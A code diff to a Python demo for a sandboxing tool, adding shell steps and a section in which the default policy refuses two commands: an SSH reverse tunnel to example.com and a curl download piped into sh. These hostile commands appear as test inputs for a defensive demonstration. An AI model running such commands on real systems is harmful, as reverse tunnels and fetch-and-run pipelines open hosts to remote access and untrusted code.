@@ -84,7 +84,34 @@ def run_demo(console: Console) -> None:
             ("a flood of output is cut at 2000 characters", "python", "while True: print('spam')"),
             ("and the sandbox carries on", "python", "print('still here')"),
         ]
+        steps[5:5] = [
+            (
+                "bash, interpreted by corral over the same workspace",
+                "shell",
+                "for f in *.csv; do wc -l < $f; done | sort -n | tail -1; "
+                "cut -d, -f1 data.csv | tail -n +2 | tr a-z A-Z",
+            ),
+            (
+                "the shell reaches tools through the same checks",
+                "shell",
+                "tool charge --amount 20 --currency EUR | jq -r .id",
+            ),
+        ]
         for title, lang, code in steps:
-            r = sb.python(code) if lang == "python" else sb.js(code)
+            if lang == "python":
+                r = sb.python(code)
+            elif lang == "js":
+                r = sb.js(code)
+            else:
+                r = sb.run(code)
             _show(console, title, code, r)
+    with Sandbox(policy="default") as sb:
+        for title, code in [
+            (
+                "the default policy refuses a reverse tunnel",
+                "ssh -R 9000:localhost:22 me@example.com",
+            ),
+            ("… and a download piped into a shell", "curl -s http://example.com/x.sh | sh"),
+        ]:
+            _show(console, title, code, sb.run(code))
     console.print("\n[bold green]done[/bold green]: every action above was an event on the bus.")
